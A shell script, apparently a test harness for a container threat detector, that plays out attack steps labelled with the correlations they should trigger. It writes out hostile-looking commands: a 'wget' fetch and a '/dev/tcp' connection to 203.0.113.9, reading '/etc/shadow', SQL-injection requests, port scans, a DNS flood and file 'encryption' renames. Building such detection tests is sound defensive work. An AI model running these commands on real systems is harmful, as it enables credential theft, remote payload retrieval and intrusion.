#!/bin/sh
# Attacks of several steps, each for real, as the only program of a container, whose log is what
# they print. A line that begins with "#:" names the correlation that the commands below it raise;
# those over several containers need the steps of others. Nothing leaves the machine: addresses are
# the container's own, but for the gateway of its internal network.

# A line of an access log: method, path, status.
request() {
  echo "198.51.100.7 - - [28/Nov/2026:10:00:00 +0000] \"$1 $2 HTTP/1.1\" $3 12 \"-\" \"x\""
}

# Runs a program under a name; it is a copy of true, so it does nothing.
as() {
  name=$1
  shift
  cp /bin/true "/opt/$name"
  "/opt/$name" "$@"
}

# Connects to an address and port under a name.
to() {
  perl -e 'use Socket; $0 = $ARGV[0]; socket my $s, PF_INET, SOCK_STREAM, 0;
    connect $s, pack_sockaddr_in($ARGV[2], inet_aton($ARGV[1])); 1' "$@"
}

until [ -e /tmp/go ]; do sleep 0.1; done

#: Calls to one address at regular intervals
perl -e 'use Socket; $0 = "agent"; for (1 .. 10) { socket my $s, PF_INET, SOCK_STREAM, 0;
  connect $s, pack_sockaddr_in(8444, inet_aton("203.0.113.9")); select undef, undef, undef, 1.2 }' &

#: Many web attacks on a container
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  request GET "/item?id=$i+UNION+SELECT+1,2" 200
done

#: Web attack followed by a shell
#: Server process looks over the system
perl -e '$0 = "nginx"; system "sh", "-c", "true"; system "id", "-u"; system "whoami";
  system "groups"' > /dev/null

#: Tool fetched and run
#: Web attack followed by a foreign program
#: The same foreign program in several containers
as wget http://203.0.113.9/update
as update

#: Credentials read, then a connection outside
#: Web attack followed by a connection outside
cat /etc/shadow > /dev/null
to app 203.0.113.9 8443

#: Several containers led to one address
bash -c 'echo > /dev/tcp/203.0.113.9/443' 2> /dev/null

#: Many addresses tried from a container
#: Many ports of an address tried
perl -e 'use Socket; sub at { socket my $s, PF_INET, SOCK_STREAM, 0;
  connect $s, pack_sockaddr_in($_[1], inet_aton($_[0])) }
  at("127.0.1.$_", 22) for 1 .. 20; at("127.0.0.1", $_) for 5001 .. 5015'

#: Files encrypted one after the other
for i in 1 2 3 4 5 6 7 8 9 10; do
  echo x > "/opt/$i" && mv "/opt/$i" "/opt/$i.locked"
done

#: Many logins refused
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
  request POST /login 401
done

#: Login accepted after many refused
request POST /login 302

#: Many passwords refused by a server
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  echo "Failed password for root from 198.51.100.7 port $i ssh2"
done

#: Password accepted after many refused
echo "Accepted password for root from 198.51.100.7 port 21 ssh2"

#: Many paths tried by a client
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30; do
  request GET "/backup-$i.zip" 404
done

#: Much sent in questions to name servers
perl -e 'use Socket; socket my $s, PF_INET, SOCK_DGRAM, 0;
  send $s, "x" x 1000, 0, pack_sockaddr_in(53, inet_aton("198.51.100.1")) for 1 .. 700; 1'

# The next ones begin outside: a terminal, and a file that is copied.
until [ -e /srv/copied ]; do sleep 0.1; done

#: Traces removed after a shell
#: Shells with a terminal in several containers
mkdir -p /var/log && echo x > /var/log/b.log && rm /var/log/b.log

#: Copied into a container and run
as copied

wait
sleep 60
